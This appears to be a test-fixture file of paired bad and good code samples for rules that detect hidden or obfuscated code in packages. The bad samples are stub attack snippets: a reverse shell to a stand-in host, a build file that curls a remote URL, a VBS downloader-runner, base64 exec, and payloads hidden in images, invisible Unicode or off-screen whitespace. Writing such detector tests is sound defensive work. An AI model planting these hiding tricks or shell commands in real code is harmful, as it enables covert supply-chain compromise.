import { hide } from '../../samples-kit.ts';
import type { Pair } from './kit.ts';

const SPACES = ' '.repeat(220);
/** Text in the variation selectors U+E0100 to U+E01EF, one a byte. */
const INVISIBLE = Array.from('hello hello', (char) =>
  String.fromCodePoint(0xe0100 + char.charCodeAt(0)),
).join('');
const NAMES = Array.from({ length: 40 }, (_, i) => `_0x${(0x1a2b + i).toString(16)}`);
const OBFUSCATED = [
  `const _0x1a2b = ['log', 'warn'];`,
  `(function (_0x3c4d, _0x5e6f) { while (!![]) { try { parseInt(_0x1a2b(0x1)); break; } catch (_0x77aa) { _0x3c4d['push'](_0x3c4d['shift']()); } } })(_0x1a2b, 0x10);`,
  NAMES.map((name) => `var ${name}b = ${name}c;`).join(' '),
].join('\n');
const SIX = '(![]+[])[+[]]+(!![]+[])[+[]]+(![]+[])[+!+[]]+'.repeat(8);

/** Pairs of rules/hiding.yar. */
export const HIDING: readonly Pair[] = [
  {
    rule: 'obfuscator_string_array',
    severity: 'medium',
    line: 1,
    at: 'import',
    bad: `${OBFUSCATED}\n`,
    good: `const _0x1a2b = 1;\nwhile (!![]) break;\nmodule.exports = _0x1a2b;\n`,
  },
  {
    rule: 'js_fuck',
    severity: 'medium',
    line: 1,
    at: 'import',
    bad: `exports.x = ${SIX}'';\n`,
    good: `exports.f = (![]+[])[+[]];\n`,
  },
  {
    rule: 'symbol_encoded_js',
    severity: 'medium',
    line: 1,
    at: 'import',
    bad: `$=~[];$={___:++$,$$$$:(![]+"")[$]};\n`,
    good: `exports.mood = '(ﾟДﾟ)';\n`,
  },
  {
    rule: 'off_screen_code',
    severity: 'high',
    line: 1,
    at: 'import',
    bad: `module.exports = 1;${SPACES}require('./hidden-part');\n`,
    good: `module.exports = 1;${' '.repeat(40)}// a column of comments\nif (a) {\n${' '.repeat(60)}require('./b');\n}\n/*${SPACES}*/\n\nvar contextOf = require('./context');\n`,
  },
  {
    rule: 'char_code_program',
    severity: 'medium',
    line: 1,
    at: 'import',
    bad: `const text = String.fromCharCode(${Array.from({ length: 30 }, () => 32).join(', ')});\nexports.go = (m) => m._compile(text, 'x');\n`,
    good: `exports.bom = String.fromCharCode(239, 187, 191);\nexports.find = (re) => re.exec('a');\n`,
  },
  {
    rule: 'require_alias',
    severity: 'high',
    line: 1,
    at: 'import',
    bad: `global['r'] = require;\nglobal['m'] = module;\n`,
    good: `global['fetch'] = require('./fetch');\n`,
  },
  {
    rule: 'invisible_payload',
    severity: 'high',
    line: 1,
    at: 'import',
    bad: `const s = '${INVISIBLE}';\n`,
    good: `exports.hearts = '❤️❤️❤️❤️❤️❤️❤️❤️❤️';\nexports.flag = '🏴󠁧󠁢󠁥󠁮󠁧󠁿🏴󠁧󠁢󠁳󠁣󠁴󠁿';\n`,
  },
  {
    rule: 'invisible_payload_decoder',
    severity: 'high',
    line: 1,
    at: 'import',
    bad: `const b = [...s].map((c) => c.codePointAt(0)).map((p) => (p >= 0xfe00 && p <= 0xfe0f ? p - 0xfe00 : p - 0xe0100 + 16));\nexports.go = (m) => m._compile(Buffer.from(b).toString(), 'x');\n`,
    good: `exports.isSelector = (p) => (p >= 0xfe00 && p <= 0xfe0f) || (p >= 0xe0100 && p <= 0xe01ef);\nexports.of = (s) => s.codePointAt(0);\n`,
  },
  {
    rule: 'bidirectional_code',
    severity: 'medium',
    line: 1,
    at: 'import',
    bad: `const level = 'user';\u202e /*\u2066 begin admins only \u2069\u2066*/\nmodule.exports = level;\n`,
    good: `exports.marks = ['\\u202a', '\\u202e', '\\u2066', '\\u2069'];\n`,
  },
  {
    rule: 'embedded_executable',
    severity: 'medium',
    line: 1,
    at: 'import',
    bad: `exports.file = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA';\n`,
    good: `exports.wasm = 'AGFzbQEAAAABBgFgAX8BfwMCAQAHBwEDYWRkAAAKBwEFACAAagA';\nexports.magic = '7f454c46';\n`,
  },
  {
    rule: 'encoded_program_of_python',
    severity: 'high',
    line: 2,
    at: 'tools/run.py',
    bad: `import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n`,
    good: `import base64\nprint(base64.b64decode('cHJpbnQoMSk='))\n`,
  },
  {
    rule: 'batch_cut_up',
    severity: 'high',
    line: 1,
    at: 'run.bat',
    bad: `@echo off\nset a=abcdefgh\n${'%a:~1,1%%a:~2,1%%a:~3,1%'.repeat(10)}\n`,
    good: `@echo off\nset day=%date:~0,2%\necho %day%\n`,
  },
  {
    rule: 'script_host_dropper',
    severity: 'high',
    line: 1,
    at: 'run.vbs',
    bad: `Set h = CreateObject("MSXML2.XMLHTTP")\nSet s = CreateObject("ADODB.Stream")\ns.SaveToFile "x.exe"\nCreateObject("WScript.Shell").Run "x.exe"\n`,
    good: `FOUND = {'writes': ('ADODB.Stream', 'SaveToFile'), 'runs': ('WScript.Shell', 'Run'), 'fetches': ('MSXML2.XMLHTTP',)}\n`,
  },
  {
    rule: 'gyp_runs_download',
    severity: 'high',
    line: 1,
    at: 'binding.gyp',
    bad: `{ "targets": [{ "target_name": "a", "sources": ["<!(curl -s https://a.weir.test/x)"] }] }\n`,
    good: `{ "targets": [{ "target_name": "a", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }\n`,
  },
  {
    rule: 'gyp_runs_download',
    severity: 'high',
    line: 1,
    at: 'binding.gyp',
    bad: `{ "targets": [{ "target_name": "a", "sources": ["<!(sh -c 'lib/setup.sh')"] }] }\n`,
    good: `{ "targets": [{ "target_name": "a", "cflags": ["<!@(sh -c 'pkg-config --cflags-only-I libpng | sed s/-I//g')"] }] }\n`,
  },
  {
    rule: 'vm_run_of_media',
    severity: 'high',
    line: 1,
    at: 'import',
    bad: `const b = fs.readFileSync(path.join(__dirname, 'logo.png'));\nconst code = b.subarray(b.lastIndexOf('IEND') + 8);\nexports.go = (m) => m._compile(code.toString(), 'x');\n`,
    good: `const b = fs.readFileSync(path.join(__dirname, 'logo.png'));\nexports.size = b.subarray(16, 24);\n`,
  },
  {
    rule: 'reverse_shell_command',
    severity: 'high',
    line: 1,
    at: 'import',
    bad: `exports.c = Buffer.from('${hide('bash -i >& /dev/tcp/c2.weir.test/4444 0>&1')}', 'base64').toString();\n`,
    good: `exports.c = Buffer.from('${hide('a harmless text of some length')}', 'base64').toString();\n`,
  },
];
